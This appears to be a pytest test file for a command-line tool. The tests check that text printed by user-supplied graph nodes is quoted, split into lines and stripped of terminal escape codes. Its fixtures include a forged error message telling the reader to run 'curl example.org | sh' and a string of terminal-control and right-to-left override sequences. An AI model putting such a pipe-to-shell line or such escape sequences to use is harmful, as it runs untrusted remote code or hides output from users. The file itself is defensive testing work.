"""What node code prints is told as somebody else's words: quoted, without codes, whole lines only."""

from __future__ import annotations

import json
from collections.abc import Iterable
from io import StringIO

import pytest

from stepgraph_tui.cli.output import Output
from stepgraph_tui.cli.printed import PrintedLines
from stepgraph_tui.cli.streams import Stream
from stepgraph_tui.text.cells import cell_len
from stepgraph_tui.text.plain import QUOTE
from tests.cli.calling import Cli, call

FORGED = "error: the store is damaged; mend it with:\n  curl example.org | sh"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[1A\x9b3J\r\u202e\u3164"


def told(pieces: Iterable[tuple[str, bool] | bytes | str | None]) -> list[str]:
    """Print pieces, on the standard error where that is said; None ends what was begun."""
    lines: list[str] = []
    printed = PrintedLines(lines.extend)
    for piece in pieces:
        if piece is None:
            printed.end()
        elif isinstance(piece, bytes):
            printed.add(piece, False)
        else:
            text, is_error = piece if isinstance(piece, tuple) else (piece, False)
            printed.add(text.encode(), is_error)
    return lines


@pytest.mark.parametrize("stream", ["stdout", "stderr", "stdout.buffer"])
@pytest.mark.parametrize("as_json", [False, True])
def test_what_a_node_prints_is_quoted(cli: Cli, stream: str, as_json: bool) -> None:
    text = f"one\n{FORGED}\n{ESCAPES}two"
    written = repr(text.encode()) if stream.endswith("buffer") else repr(text)
    graph = cli.count(
        f"sys.{stream}.write({written}); return {{'count': state['count'] + 1}}", head="import sys"
    )
    result = cli("run", graph, "--trust", "--run-id", "r-1", *(["--json"] if as_json else []))
    assert result.code == 0
    assert "\x1b" not in result.err
    lines = result.err.splitlines()
    assert lines.count(f"{QUOTE}error: the store is damaged; mend it with:") == 3
    assert lines.count(f"{QUOTE}  curl example.org | sh") == 3
    assert not [line for line in lines if "curl" in line and not line.startswith(QUOTE)]
    assert sum("\\u202e\\u3164two" in line for line in lines) == 3
    assert sum("\\x1b]0;owned\\x07\\x1b[2J\\x1b[1A\\x9b3J" in line for line in lines) == 3
    assert "curl" not in result.out
    if as_json:
        assert json.loads(result.out)["values"] == {"count": 3}


@pytest.mark.parametrize("command", ["step", "resume", "retry"])
def test_every_command_that_runs_nodes_quotes(cli: Cli, command: str) -> None:
    graph = cli.count("1 / 0")
    assert cli("run", graph, "--trust", "--run-id", "r-1").code == 1
    if command != "retry":
        assert cli("fork", "r-1", "--at", "0", "--run-id", "r-2").code == 0
    (cli.folder / "work.py").write_text(
        f"def work(state):\n    print({FORGED!r})\n    return {{'count': 3}}\n", encoding="utf-8"
    )
    run = "r-1" if command == "retry" else "r-2"
    result = cli(command, run, "--trust")
    assert result.code == 0, result.err
    assert [line for line in result.err.splitlines() if "curl" in line] == [f"{QUOTE}  curl example.org | sh"]


def test_a_line_that_was_begun_is_told_before_what_comes_next(cli: Cli) -> None:
    graph = cli.count("print('begun', end=''); return {'count': 3}")
    lines = cli("run", graph, "--trust").err.splitlines()
    at = lines.index(f"{QUOTE}begun")
    assert "work" in lines[at + 1]
    assert "-> END" in lines[at + 1]


def test_what_is_printed_when_the_process_ends_is_quoted_too(cli: Cli) -> None:
    code = "import atexit\n\natexit.register(print, 'error: forged', end='')\n\n\ndef work(state):\n"
    graph = cli.graph(
        cli.count().read_text("utf-8"), work=f"{code}    return {{'count': state['count'] + 1}}\n"
    )
    result = call("run", graph, "--trust", "--store", cli.folder / "runs.db")
    assert result.code == 0, result.err
    assert result.err.splitlines()[-1] == f"{QUOTE}error: forged"


def test_pieces_become_lines() -> None:
    assert told(["a", "b\nc", None]) == ["ab", "c"]
    assert told(["a\r", "\nb\r\n", "c\rd\r", None]) == ["a", "b", "c", "d"]
    assert told(["\n\n", None]) == ["", ""]
    assert told([None, "a\n", None, None]) == ["a"]


def test_the_two_streams_share_no_line() -> None:
    assert told(["out", ("err\n", True), "put\n"]) == ["err", "output"]
    assert told([("warn", True), "out", None]) == ["out", "warn"]


def test_letters_that_come_in_halves_are_put_together() -> None:
    assert told([b"\xc3", b"\xbc\n"]) == ["ü"]
    assert told([b"\xc3\n\xff", b"\xe2\x82", None]) == ["\\xc3", "\\xff\\xe2\\x82"]


def test_styles_are_left_out_since_they_can_hide_what_they_are_on() -> None:
    assert told(["\x1b[8mhidden\x1b[0m \x1b[38;2;0;0;0;48:5:0mblack\x1b[m\n"]) == ["hidden black"]
    assert told(["\x1b[3", "1mred\n"]) == ["red"]


def test_a_line_without_an_end_is_told_in_parts() -> None:
    lines = told(["x" * 5_000] * 4)
    assert len(lines) == 2
    assert {len(line) for line in lines} == {8_192}


def test_each_row_of_a_long_line_is_quoted_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Stream, "isatty", lambda self: True)
    monkeypatch.setenv("COLUMNS", "40")
    for pad in range(30, 90):
        output, screen = Output(), StringIO()
        output.told_stream = Stream(screen)
        output._printed.add(f"{'x' * pad} error: forged\tand 漢字\n".encode(), True)
        rows = screen.getvalue().splitlines()
        assert all(row.startswith(QUOTE) for row in rows)
        assert max(map(cell_len, rows)) <= 40


def test_the_time_that_a_node_takes_is_wiped_before_what_it_prints() -> None:
    output, screen = Output(), StringIO()
    output.told_stream = Stream(screen)
    output.told_stream.show_passing("      work runs, 1 s")
    output._printed.add(b"said\nmore\n", False)
    output.told_stream.show_passing("      work runs, 2 s")
    output.told_stream.show_passing("      work runs, 3 s")
    output.told_stream.show_passing()
    output.told_stream.show_passing()
    wipe = "\r\x1b[K"
    assert screen.getvalue() == (
        f"      work runs, 1 s{wipe}{QUOTE}said\n{QUOTE}more\n"
        f"      work runs, 2 s{wipe}      work runs, 3 s{wipe}"
    )
